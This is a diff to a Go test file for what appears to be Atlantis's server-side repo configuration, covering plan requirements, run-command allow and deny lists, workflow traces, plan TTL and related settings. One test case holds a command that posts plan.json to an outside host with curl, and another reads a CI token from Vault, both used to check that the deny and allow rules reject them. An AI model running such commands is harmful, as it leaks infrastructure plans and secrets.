@@ -6,6 +6,7 @@ import (
 	"path/filepath"
 	"regexp"
 	"testing"
+	"time"
 
 	"github.com/hashicorp/go-version"
 	"github.com/mohae/deepcopy"
@@ -223,6 +224,56 @@ func TestGlobalCfg_ValidateRepoCfg(t *testing.T) {
 			repoID: "github.com/owner/repo",
 			expErr: "workflow 'forbidden' is not allowed for this repo",
 		},
+		"repo sets plan requirement that is not allowed": {
+			gCfg: valid.GlobalCfg{
+				Repos: []valid.Repo{
+					valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{
+						AllowAllRepoSettings: true,
+					}).Repos[0],
+					{
+						ID:                      "github.com/owner/repo",
+						AllowedOverrides:        []string{"plan_requirements"},
+						AllowedPlanRequirements: []string{"mergeable"},
+					},
+				},
+			},
+			rCfg: valid.RepoCfg{
+				Projects: []valid.Project{
+					{
+						Dir:              ".",
+						Workspace:        "default",
+						PlanRequirements: []string{"mergeable", "approved"},
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "plan requirement 'approved' is not allowed for this repo: server-side config 'allowed_plan_requirements' only allows [mergeable]",
+		},
+		"repo sets plan requirement that is allowed": {
+			gCfg: valid.GlobalCfg{
+				Repos: []valid.Repo{
+					valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{
+						AllowAllRepoSettings: true,
+					}).Repos[0],
+					{
+						ID:                      "github.com/owner/repo",
+						AllowedOverrides:        []string{"plan_requirements"},
+						AllowedPlanRequirements: []string{"mergeable", "approved"},
+					},
+				},
+			},
+			rCfg: valid.RepoCfg{
+				Projects: []valid.Project{
+					{
+						Dir:              ".",
+						Workspace:        "default",
+						PlanRequirements: []string{"mergeable"},
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "",
+		},
 		"repo uses workflow that is defined in both places with same name (without custom workflows)": {
 			gCfg: valid.GlobalCfg{
 				Repos: []valid.Repo{
@@ -504,6 +555,55 @@ func TestGlobalCfg_ValidateRepoCfg(t *testing.T) {
 			repoID: "github.com/owner/repo",
 			expErr: "workflow \"doesntexist\" is not defined anywhere",
 		},
+		"custom workflow runs denied command": {
+			gCfg: valid.GlobalCfg{
+				Repos: []valid.Repo{
+					valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{
+						AllowAllRepoSettings: true,
+					}).Repos[0],
+					{
+						IDRegex:            regexp.MustCompile(".*"),
+						AllowedRunCommands: []string{"terraform", "infracost"},
+						DeniedRunCommands:  []string{"curl"},
+					},
+				},
+			},
+			rCfg: valid.RepoCfg{
+				Workflows: map[string]valid.Workflow{
+					"allowed": {
+						Plan: valid.Stage{Steps: []valid.Step{{StepName: "run", RunCommand: "infracost breakdown --path ."}}},
+					},
+					"denied": {
+						Plan:  valid.Stage{Steps: []valid.Step{{StepName: "init"}}},
+						Apply: valid.Stage{Steps: []valid.Step{{StepName: "run", RunCommand: "terraform show && curl -d @plan.json example.com"}}},
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "workflow \"denied\": apply: run step \"terraform show && curl -d @plan.json example.com\": \"curl\" is denied by server-side config 'denied_run_commands'",
+		},
+		"custom workflow runs command that isn't allowed": {
+			gCfg: valid.GlobalCfg{
+				Repos: []valid.Repo{
+					valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{
+						AllowAllRepoSettings: true,
+					}).Repos[0],
+					{
+						IDRegex:            regexp.MustCompile(".*"),
+						AllowedRunCommands: []string{"terraform"},
+					},
+				},
+			},
+			rCfg: valid.RepoCfg{
+				Workflows: map[string]valid.Workflow{
+					"custom": {
+						Plan: valid.Stage{Steps: []valid.Step{{StepName: "env", EnvVarName: "TOKEN", RunCommand: "vault read -field=token secret/ci"}}},
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "workflow \"custom\": plan: env step \"vault read -field=token secret/ci\": \"vault\" is not allowed: server-side config 'allowed_run_commands' only allows [terraform]",
+		},
 	}
 	for name, c := range cases {
 		t.Run(name, func(t *testing.T) {
@@ -553,6 +653,7 @@ policies:
 					Import:      valid.DefaultImportStage,
 					StateRm:     valid.DefaultStateRmStage,
 				},
+				WorkflowTrace: []string{`default server config sets workflow "default"`},
 				PolicySets: valid.PolicySets{
 					Version:      nil,
 					ApproveCount: 1,
@@ -602,6 +703,7 @@ policies:
 					Import:      valid.DefaultImportStage,
 					StateRm:     valid.DefaultStateRmStage,
 				},
+				WorkflowTrace: []string{`default server config sets workflow "default"`},
 				PolicySets: valid.PolicySets{
 					Version:      version,
 					ApproveCount: 1,
@@ -702,6 +804,10 @@ workflows:
 					Import:  valid.DefaultImportStage,
 					StateRm: valid.DefaultStateRmStage,
 				},
+				WorkflowTrace: []string{
+					`default server config sets workflow "default"`,
+					`project in dir "." workspace "default" in the repo config sets workflow "custom", defined in the server-side repo config`,
+				},
 				RepoRelDir:        ".",
 				Workspace:         "default",
 				Name:              "",
@@ -709,6 +815,7 @@ workflows:
 				PolicySets:        emptyPolicySets,
 				RepoLocks:         valid.DefaultRepoLocks,
 				CustomPolicyCheck: false,
+				RepoCfgKeys:       []string{"workflow"},
 			},
 		},
 		"repo-side plan reqs win out if allowed": {
@@ -732,6 +839,7 @@ repos:
 				ApplyRequirements:  []string{},
 				ImportRequirements: []string{},
 				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
 				RepoRelDir:         ".",
 				Workspace:          "default",
 				Name:               "",
@@ -739,6 +847,7 @@ repos:
 				PolicySets:         emptyPolicySets,
 				RepoLocks:          valid.DefaultRepoLocks,
 				CustomPolicyCheck:  false,
+				RepoCfgKeys:        []string{"plan_requirements"},
 			},
 		},
 		"repo-side apply reqs win out if allowed": {
@@ -762,6 +871,7 @@ repos:
 				ApplyRequirements:  []string{"mergeable"},
 				ImportRequirements: []string{},
 				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
 				RepoRelDir:         ".",
 				Workspace:          "default",
 				Name:               "",
@@ -769,6 +879,7 @@ repos:
 				PolicySets:         emptyPolicySets,
 				RepoLocks:          valid.DefaultRepoLocks,
 				CustomPolicyCheck:  false,
+				RepoCfgKeys:        []string{"apply_requirements"},
 			},
 		},
 		"repo-side apply reqs should include non-overrideable 'policies_passed' req when overridden and policies enabled": {
@@ -793,6 +904,7 @@ repos:
 				ApplyRequirements:  []string{"mergeable", "policies_passed"},
 				ImportRequirements: []string{},
 				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
 				RepoRelDir:         ".",
 				Workspace:          "default",
 				Name:               "",
@@ -801,6 +913,7 @@ repos:
 				RepoLocks:          valid.DefaultRepoLocks,
 				CustomPolicyCheck:  false,
 				PolicyCheck:        true,
+				RepoCfgKeys:        []string{"apply_requirements"},
 			},
 		},
 		"repo-side apply reqs should not include non-overrideable 'policies_passed' req when overridden and policies disabled": {
@@ -824,6 +937,7 @@ repos:
 				ApplyRequirements:  []string{"mergeable"},
 				ImportRequirements: []string{},
 				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
 				RepoRelDir:         ".",
 				Workspace:          "default",
 				Name:               "",
@@ -832,6 +946,7 @@ repos:
 				RepoLocks:          valid.DefaultRepoLocks,
 				CustomPolicyCheck:  false,
 				PolicyCheck:        false,
+				RepoCfgKeys:        []string{"apply_requirements"},
 			},
 		},
 		"repo-side import reqs win out if allowed": {
@@ -855,6 +970,7 @@ repos:
 				ApplyRequirements:  []string{},
 				ImportRequirements: []string{"mergeable"},
 				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
 				RepoRelDir:         ".",
 				Workspace:          "default",
 				Name:               "",
@@ -862,6 +978,7 @@ repos:
 				PolicySets:         emptyPolicySets,
 				RepoLocks:          valid.DefaultRepoLocks,
 				CustomPolicyCheck:  false,
+				RepoCfgKeys:        []string{"import_requirements"},
 			},
 		},
 		"repo-side repo_locking win out if allowed": {
@@ -885,6 +1002,7 @@ repos:
 				ApplyRequirements:  []string{},
 				ImportRequirements: []string{},
 				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
 				RepoRelDir:         ".",
 				Workspace:          "default",
 				Name:               "",
@@ -917,6 +1035,7 @@ repos:
 				ApplyRequirements:  []string{},
 				ImportRequirements: []string{},
 				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
 				RepoRelDir:         ".",
 				Workspace:          "default",
 				Name:               "",
@@ -954,6 +1073,7 @@ repos:
 				ApplyRequirements:  []string{"approved", "mergeable"},
 				ImportRequirements: []string{"approved", "mergeable"},
 				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
 				RepoRelDir:         "mydir",
 				Workspace:          "myworkspace",
 				Name:               "myname",
@@ -981,6 +1101,7 @@ repos:
 				ApplyRequirements:  []string{},
 				ImportRequirements: []string{},
 				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
 				RepoRelDir:         "mydir",
 				Workspace:          "myworkspace",
 				Name:               "myname",
@@ -1009,6 +1130,7 @@ repos:
 				ApplyRequirements:   []string{},
 				ImportRequirements:  []string{},
 				Workflow:            defaultWorkflow,
+				WorkflowTrace:       []string{`default server config sets workflow "default"`},
 				RepoRelDir:          "mydir",
 				Workspace:           "myworkspace",
 				Name:                "myname",
@@ -1019,6 +1141,104 @@ repos:
 				CustomPolicyCheck:   false,
 			},
 		},
+		"lock false disables repo locks": {
+			gCfg:   "",
+			repoID: "github.com/owner/repo",
+			proj: valid.Project{
+				Dir:       "mydir",
+				Workspace: "myworkspace",
+				Lock:      Bool(false),
+			},
+			repoWorkflows: nil,
+			exp: valid.MergedProjectCfg{
+				PlanRequirements:   []string{},
+				ApplyRequirements:  []string{},
+				ImportRequirements: []string{},
+				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
+				RepoRelDir:         "mydir",
+				Workspace:          "myworkspace",
+				PolicySets:         emptyPolicySets,
+				RepoLocks:          valid.RepoLocks{Mode: valid.RepoLocksDisabledMode},
+				PlanOnly:           true,
+				RepoCfgKeys:        []string{"repo_locks"},
+			},
+		},
+		"project plan ttl shorter than server's": {
+			gCfg: `
+repos:
+- id: /.*/
+  plan_ttl: 2h
+`,
+			repoID: "github.com/owner/repo",
+			proj: valid.Project{
+				Dir:       "mydir",
+				Workspace: "myworkspace",
+				PlanTTL:   30 * time.Minute,
+			},
+			repoWorkflows: nil,
+			exp: valid.MergedProjectCfg{
+				PlanRequirements:   []string{},
+				ApplyRequirements:  []string{},
+				ImportRequirements: []string{},
+				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
+				RepoRelDir:         "mydir",
+				Workspace:          "myworkspace",
+				PolicySets:         emptyPolicySets,
+				RepoLocks:          valid.DefaultRepoLocks,
+				PlanTTL:            30 * time.Minute,
+				RepoCfgKeys:        []string{"plan_ttl"},
+			},
+		},
+		"project plan ttl can't lengthen server's": {
+			gCfg: `
+repos:
+- id: /.*/
+  plan_ttl: 2h
+`,
+			repoID: "github.com/owner/repo",
+			proj: valid.Project{
+				Dir:       "mydir",
+				Workspace: "myworkspace",
+				PlanTTL:   3 * time.Hour,
+			},
+			repoWorkflows: nil,
+			exp: valid.MergedProjectCfg{
+				PlanRequirements:   []string{},
+				ApplyRequirements:  []string{},
+				ImportRequirements: []string{},
+				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
+				RepoRelDir:         "mydir",
+				Workspace:          "myworkspace",
+				PolicySets:         emptyPolicySets,
+				RepoLocks:          valid.DefaultRepoLocks,
+				PlanTTL:            2 * time.Hour,
+			},
+		},
+		"project chdir": {
+			gCfg:   "",
+			repoID: "github.com/owner/repo",
+			proj: valid.Project{
+				Dir:       "envs/prod",
+				Workspace: "default",
+				Chdir:     true,
+			},
+			repoWorkflows: nil,
+			exp: valid.MergedProjectCfg{
+				PlanRequirements:   []string{},
+				ApplyRequirements:  []string{},
+				ImportRequirements: []string{},
+				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
+				RepoRelDir:         "envs/prod",
+				Workspace:          "default",
+				PolicySets:         emptyPolicySets,
+				RepoLocks:          valid.DefaultRepoLocks,
+				Chdir:              true,
+			},
+		},
 	}
 	for name, c := range cases {
 		t.Run(name, func(t *testing.T) {
@@ -1149,6 +1369,178 @@ func TestGlobalCfg_MatchingRepo(t *testing.T) {
 	}
 }
 
+func TestGlobalCfg_RepoAllowsPlanRef(t *testing.T) {
+	gCfg := valid.GlobalCfg{
+		Repos: []valid.Repo{
+			{
+				IDRegex: regexp.MustCompile(".*"),
+			},
+			{
+				ID:                   "github.com/owner/repo",
+				AllowedPlanRefsRegex: regexp.MustCompile(`^(origin/)?hotfix-.*$`),
+			},
+		},
+	}
+
+	Equals(t, true, gCfg.RepoAllowsPlanRef("github.com/owner/repo", "origin/hotfix-123"))
+	Equals(t, false, gCfg.RepoAllowsPlanRef("github.com/owner/repo", "main"))
+	Equals(t, false, gCfg.RepoAllowsPlanRef("github.com/owner/other", "origin/hotfix-123"))
+}
+
+func TestGlobalCfg_RepoQuiet(t *testing.T) {
+	gCfg := valid.GlobalCfg{
+		Repos: []valid.Repo{
+			{
+				IDRegex: regexp.MustCompile(".*"),
+			},
+			{
+				ID:    "github.com/owner/repo",
+				Quiet: Bool(true),
+			},
+			{
+				ID:    "github.com/owner/loud",
+				Quiet: Bool(false),
+			},
+		},
+	}
+
+	Equals(t, true, gCfg.RepoQuiet("github.com/owner/repo"))
+	Equals(t, false, gCfg.RepoQuiet("github.com/owner/loud"))
+	Equals(t, false, gCfg.RepoQuiet("github.com/owner/other"))
+}
+
+func TestGlobalCfg_RepoMaxProjectsPerPR(t *testing.T) {
+	gCfg := valid.GlobalCfg{
+		Repos: []valid.Repo{
+			{
+				IDRegex:          regexp.MustCompile(".*"),
+				MaxProjectsPerPR: Int(20),
+			},
+			{
+				ID:               "github.com/owner/monorepo",
+				MaxProjectsPerPR: Int(0),
+			},
+		},
+	}
+
+	Equals(t, 20, gCfg.RepoMaxProjectsPerPR("github.com/owner/repo"))
+	// Later matching repos override earlier ones, including to remove the
+	// limit.
+	Equals(t, 0, gCfg.RepoMaxProjectsPerPR("github.com/owner/monorepo"))
+	Equals(t, 0, valid.GlobalCfg{}.RepoMaxProjectsPerPR("github.com/owner/repo"))
+}
+
+func TestGlobalCfg_RepoRequireApplyReason(t *testing.T) {
+	gCfg := valid.GlobalCfg{
+		Repos: []valid.Repo{
+			{
+				IDRegex:            regexp.MustCompile(".*"),
+				RequireApplyReason: Bool(true),
+			},
+			{
+				ID:                 "github.com/owner/sandbox",
+				RequireApplyReason: Bool(false),
+			},
+		},
+	}
+
+	Equals(t, true, gCfg.RepoRequireApplyReason("github.com/owner/repo"))
+	Equals(t, false, gCfg.RepoRequireApplyReason("github.com/owner/sandbox"))
+	Equals(t, false, valid.GlobalCfg{}.RepoRequireApplyReason("github.com/owner/repo"))
+}
+
+func TestGlobalCfg_RepoProviderMirror(t *testing.T) {
+	mirror := &valid.ProviderMirror{URL: "https://mirror.example.com/"}
+	sandboxMirror := &valid.ProviderMirror{Path: "/opt/providers"}
+	gCfg := valid.GlobalCfg{
+		Repos: []valid.Repo{
+			{
+				IDRegex:        regexp.MustCompile(".*"),
+				ProviderMirror: mirror,
+			},
+			{
+				ID:             "github.com/owner/sandbox",
+				ProviderMirror: sandboxMirror,
+			},
+			{
+				ID: "github.com/owner/sandbox",
+			},
+		},
+	}
+
+	Equals(t, mirror, gCfg.RepoProviderMirror("github.com/owner/repo"))
+	Equals(t, sandboxMirror, gCfg.RepoProviderMirror("github.com/owner/sandbox"))
+	Equals(t, (*valid.ProviderMirror)(nil), valid.GlobalCfg{}.RepoProviderMirror("github.com/owner/repo"))
+}
+
+func TestGlobalCfg_RepoStatusStrategy(t *testing.T) {
+	gCfg := valid.GlobalCfg{
+		Repos: []valid.Repo{
+			{
+				IDRegex:        regexp.MustCompile(".*"),
+				StatusStrategy: valid.StatusStrategyAggregate,
+			},
+			{
+				ID:             "github.com/owner/repo",
+				StatusStrategy: valid.StatusStrategyPerProject,
+			},
+			{
+				ID: "github.com/owner/repo",
+			},
+		},
+	}
+
+	Equals(t, valid.StatusStrategyAggregate, gCfg.RepoStatusStrategy("github.com/owner/other"))
+	Equals(t, valid.StatusStrategyPerProject, gCfg.RepoStatusStrategy("github.com/owner/repo"))
+	Equals(t, "", valid.GlobalCfg{}.RepoStatusStrategy("github.com/owner/repo"))
+}
+
+func TestGlobalCfg_RepoAllowsCommand(t *testing.T) {
+	gCfg := valid.GlobalCfg{
+		Repos: []valid.Repo{
+			{
+				IDRegex:         regexp.MustCompile(".*"),
+				AllowedCommands: []string{"plan", "apply"},
+			},
+			{
+				ID:              "github.com/owner/repo",
+				AllowedCommands: []string{"plan"},
+			},
+			{
+				ID: "github.com/owner/repo",
+			},
+		},
+	}
+
+	Assert(t, gCfg.RepoAllowsCommand("github.com/owner/other", "apply"), "exp apply to be allowed by the /.*/ repo")
+	Assert(t, !gCfg.RepoAllowsCommand("github.com/owner/other", "unlock"), "exp unlock not to be allowed")
+	Assert(t, gCfg.RepoAllowsCommand("github.com/owner/repo", "plan"), "exp plan to be allowed")
+	Assert(t, !gCfg.RepoAllowsCommand("github.com/owner/repo", "apply"), "exp apply not to be allowed by the later repo")
+	Assert(t, valid.GlobalCfg{}.RepoAllowsCommand("github.com/owner/repo", "apply"), "exp every command to be allowed by default")
+}
+
+func TestGlobalCfg_RepoCleanWorkspace(t *testing.T) {
+	gCfg := valid.GlobalCfg{
+		Repos: []valid.Repo{
+			{
+				IDRegex:        regexp.MustCompile(".*"),
+				CleanWorkspace: valid.CleanWorkspaceOnError,
+			},
+			{
+				ID:             "github.com/owner/repo",
+				CleanWorkspace: valid.CleanWorkspaceAlways,
+			},
+			{
+				ID: "github.com/owner/repo",
+			},
+		},
+	}
+
+	Equals(t, valid.CleanWorkspaceOnError, gCfg.RepoCleanWorkspace("github.com/owner/other"))
+	Equals(t, valid.CleanWorkspaceAlways, gCfg.RepoCleanWorkspace("github.com/owner/repo"))
+	Equals(t, valid.CleanWorkspaceNever, valid.GlobalCfg{}.RepoCleanWorkspace("github.com/owner/repo"))
+}
+
 func TestGlobalCfg_PolicyCheckOverride(t *testing.T) {
 	var emptyPolicySets valid.PolicySets
 
@@ -1198,6 +1590,7 @@ repos:
 				ApplyRequirements:  []string{"approved", "mergeable"},
 				ImportRequirements: []string{"approved", "mergeable"},
 				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
 				RepoRelDir:         "mydir",
 				Workspace:          "myworkspace",
 				Name:               "myname",
@@ -1238,6 +1631,7 @@ repos:
 				ApplyRequirements:  []string{"approved", "mergeable", "policies_passed"},
 				ImportRequirements: []string{"approved", "mergeable", "policies_passed"},
 				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
 				RepoRelDir:         "mydir",
 				Workspace:          "myworkspace",
 				Name:               "myname",
@@ -1279,6 +1673,7 @@ repos:
 				ApplyRequirements:  []string{"approved", "mergeable"},
 				ImportRequirements: []string{"approved", "mergeable"},
 				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
 				RepoRelDir:         "mydir",
 				Workspace:          "myworkspace",
 				Name:               "myname",
@@ -1320,6 +1715,7 @@ repos:
 				ApplyRequirements:  []string{"approved", "mergeable"},
 				ImportRequirements: []string{"approved", "mergeable"},
 				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
 				RepoRelDir:         "mydir",
 				Workspace:          "myworkspace",
 				Name:               "myname",
@@ -1361,6 +1757,7 @@ repos:
 				ApplyRequirements:  []string{"approved", "mergeable"},
 				ImportRequirements: []string{"approved", "mergeable"},
 				Workflow:           defaultWorkflow,
+				WorkflowTrace:      []string{`default server config sets workflow "default"`},
 				RepoRelDir:         "mydir",
 				Workspace:          "myworkspace",
 				Name:               "myname",
@@ -1400,3 +1797,7 @@ func String(v string) *string { return &v }
 // Bool is a helper routine that allocates a new bool value
 // to store v and returns a pointer to it.
 func Bool(v bool) *bool { return &v }
+
+// Int is a helper routine that allocates a new int value
+// to store v and returns a pointer to it.
+func Int(v int) *int { return &v }